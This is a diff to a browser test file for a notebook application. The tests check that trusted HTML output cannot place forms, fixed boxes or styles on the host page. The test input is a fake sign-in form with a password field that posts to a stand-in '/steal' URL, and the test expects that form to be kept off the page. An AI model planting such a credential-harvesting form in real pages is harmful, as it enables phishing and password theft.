@@ -3,7 +3,7 @@
  * controls, and a trusted HTML output's styles, fixed boxes and forms cannot reach the page.
  */
 import { describe, expect, it } from 'vitest';
-import { addCodeCell, openNotebook, runInPlace, useSession, waitForKernel } from './browser';
+import { addCodeCell, openNotebook, runInPlace, useSession } from './browser';
 
 const s = useSession();
 
@@ -84,10 +84,8 @@ describe('a trusted HTML output', () => {
   });
 
   it('shows no form and no password field', async () => {
-    // A fresh page: the earlier output is gone (its cell is kept, unrun).
-    await s.page.reload();
-    await waitForKernel(s.page);
-    await s.page.locator('fb-cell[data-status]').first().waitFor();
+    // Another notebook, so the earlier output is off the page.
+    await openNotebook(s, 'fraud-detection');
     const id = await addCodeCell(s.page, 'display.html(`<form action="https://example.com/steal"><label>Password <input type="password" name="pw"></label><input type="text" name="user"><button>Sign in</button></form><p class="after-form">after</p>`)');
     expect(await runInPlace(s.page, id)).toBe('ok');
     const output = s.page.locator(`fb-cell[data-cell-id="${id}"] .fb-outputs`);
